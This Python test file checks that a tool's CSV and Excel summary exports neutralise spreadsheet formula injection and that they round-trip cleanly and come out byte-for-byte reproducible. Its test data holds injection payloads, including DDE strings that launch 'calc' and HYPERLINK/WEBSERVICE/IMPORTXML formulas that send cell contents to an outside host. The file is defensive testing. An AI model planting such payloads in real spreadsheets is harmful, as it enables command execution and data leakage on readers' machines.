"""The summary as CSV and as an Excel file: what spreadsheets make of it, and that nothing in it is a formula."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from zipfile import ZIP_STORED, ZipFile

import pytest
from openpyxl import load_workbook

from reg7check import assess
from reg7check.formulas import harmless
from reg7check.report.summary.choice import Choice
from reg7check.report.summary.files import summary_csv, summary_xlsx
from reg7check.report.summary.lines import Summary
from reg7check.report.summary.spreadsheet import MOST_CHARACTERS, Column, Sheet, SheetRow, spreadsheet

from .summaries import BROKEN, example, examples, summary, with_texts

FORMULAS = (
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    '"=1+1"',
    "'=1+1",
    "\"' =1+1",
    "“=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " \t＝1+1",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫SUM(A1)",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    '=WEBSERVICE("http://example.org")',
    '=IMPORTXML("http://example.org","//a")',
    "-2+3+cmd|' /C calc'!A0",
)
PLAIN = ("Barnet Council", "3 - 4", "a=b", "(=1)", "x@y.org", "O'Brien", '"quoted"', "", "   ", "=".join("ab"))


@pytest.fixture(scope="module")
def found() -> Summary:
    return summary(examples(), None, BROKEN)


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_be_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    safe = harmless(text)
    if text[0] == "\r":
        assert safe == "\\x0d=1+1"
    else:
        assert safe == "'" + text.replace("\t", " ").replace("\n", " ")


@pytest.mark.parametrize("text", PLAIN)
def test_other_texts_are_left_alone(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_hostile_arrangement_is_a_formula(text: str) -> None:
    hostile = summary([assess(with_texts(text))], None, BROKEN._replace(file=text))
    for row in rows(summary_csv(hostile)):
        for cell in row:
            assert harmless(cell) in (cell, f"'{cell}")
            assert (
                not cell.lstrip(' \u00a0\u3000"“')[:1]
                or cell.lstrip(' \u00a0\u3000"“')[0] not in "=+-@＝＋－＠﹦﹢﹣﹫"
            )
    for page in load_workbook(io.BytesIO(summary_xlsx(hostile))):
        for cells in page.iter_rows():
            for cell in cells:
                assert cell.data_type in "sdn"
                assert cell.hyperlink is None


def test_csv_reads_back_as_what_it_says(found: Summary) -> None:
    text = summary_csv(found)
    assert text.startswith("\ufeffVerdict,Title,")
    assert text.count("\r\n") == text.count("\n") == len(found.lines) + 2
    head, *lines = rows(text)
    assert {len(line) for line in lines} == {len(head)}
    for line, row in zip(found.lines, lines, strict=False):
        cells = dict(zip(head, row, strict=True))
        assert cells["Verdict"] == line.said
        assert cells["Title"] == line.title
        assert cells["First day"] == line.first_day.isoformat()
        assert cells["Turns on (number)"] == str(len(line.turns_on))
        assert cells["Supplier"] == (line.supplier or "")
        assert cells["SHA-256 of the file"] == line.sha256
    assert lines[-1][:2] == ["cannot be read", "broken.yaml"]
    assert "2 problems; the first: line 3: the nation `france` is not known" in lines[-1]


def test_a_quotation_mark_and_a_comma_read_back_too() -> None:
    text = 'He said "no", twice'
    _, row = rows(summary_csv(summary([assess(with_texts(text))])))
    assert row[1] == text


def test_excel_and_csv_tell_the_same(found: Summary) -> None:
    page = load_workbook(io.BytesIO(summary_xlsx(found)))["Summary"]
    head, *lines = rows(summary_csv(found))
    told = [[cell.value for cell in row] for row in page.iter_rows()]
    assert told[0] == head[: len(told[0])]
    for cells, row in zip(told[1:], lines, strict=True):
        for value, text in zip(cells, row, strict=False):
            match value:
                case None:
                    assert text == ""
                case datetime():
                    assert value.date().isoformat() == text
                case int():
                    assert str(value) == text
                case _:
                    assert value.replace("\n", " | ") == text


def test_the_sheet_keeps_its_head_in_view_and_can_be_filtered(found: Summary) -> None:
    page = load_workbook(io.BytesIO(summary_xlsx(found)))["Summary"]
    assert page.freeze_panes == "C2"
    assert page.auto_filter.ref == f"A1:U{len(found.lines) + 2}"
    assert page.column_dimensions["B"].width > 30
    assert all(cell.alignment.wrap_text for row in page.iter_rows() for cell in row)


def test_the_other_sheet_tells_versions_and_digests(found: Summary) -> None:
    page = load_workbook(io.BytesIO(summary_xlsx(found)))["About"]
    told = {row[0].value: row[1].value for row in page.iter_rows(min_row=2)}
    assert told["SHA-256 of the rulebook"] == found.rulebook_sha256
    for line in found.lines:
        assert told[f"SHA-256 of {line.file}"] == line.sha256


def test_the_same_arrangements_make_the_same_bytes(found: Summary) -> None:
    assert summary_xlsx(found) == summary_xlsx(summary(examples(), Choice(), BROKEN))
    assert summary_csv(found) == summary_csv(summary(examples(), Choice(), BROKEN))


def test_no_part_of_an_excel_file_is_compressed_or_tells_when_it_was_made(found: Summary) -> None:
    with ZipFile(io.BytesIO(summary_xlsx(found))) as package:
        assert {entry.date_time for entry in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert {entry.compress_type for entry in package.infolist()} == {ZIP_STORED}
        assert package.read("docProps/core.xml").count(b"2000-01-01T00:00:00Z") == 2


@pytest.mark.parametrize(
    ("letter", "times"),
    [("x", 40_000), ("é", 40_000), ("\U0001f600", 20_000), ("\n", 40_000)],
    ids=["plain", "accent", "two units", "line feed"],
)
def test_a_text_that_no_cell_can_hold_is_cut_and_says_so(letter: str, times: int) -> None:
    made = spreadsheet("t", [Sheet("S", (Column("C", 20),), [SheetRow((letter * times,))])])
    value = load_workbook(io.BytesIO(made))["S"]["A2"].value
    assert len(value.encode("utf-16-le")) // 2 <= MOST_CHARACTERS
    assert value.endswith("… (cut: a cell holds no more)")
    assert len(value) > 16_000


def test_a_cell_of_as_many_letters_as_it_can_hold_is_whole() -> None:
    made = spreadsheet("t", [Sheet("S", (Column("C", 20),), [SheetRow(("x" * MOST_CHARACTERS,))])])
    assert load_workbook(io.BytesIO(made))["S"]["A2"].value == "x" * MOST_CHARACTERS


def test_numbers_days_and_links_are_what_they_are() -> None:
    values = (3, date(2024, 5, 13), None, "http://example.org/", "007", ("one", "=2"))
    columns = tuple(Column(f"C{number}", 20) for number in range(len(values)))
    page = load_workbook(io.BytesIO(spreadsheet("t", [Sheet("S", columns, [SheetRow(values)])])))["S"]
    told = [cell.value for cell in page[2]]
    assert told == [3, datetime(2024, 5, 13), None, "http://example.org/", "007", "one\n'=2"]
    assert page["D2"].hyperlink is None


def test_a_row_is_as_high_as_its_longest_cell() -> None:
    rows = [SheetRow(("short",)), SheetRow(("many words " * 12,))]
    page = load_workbook(io.BytesIO(spreadsheet("t", [Sheet("S", (Column("C", 20),), rows)])))["S"]
    assert page.row_dimensions[2].height in (None, 15)
    assert page.row_dimensions[3].height > 60


def test_one_example_fills_one_row() -> None:
    page = load_workbook(io.BytesIO(summary_xlsx(summary([assess(example("agency-supply"))]))))["Summary"]
    assert page.max_row == 2
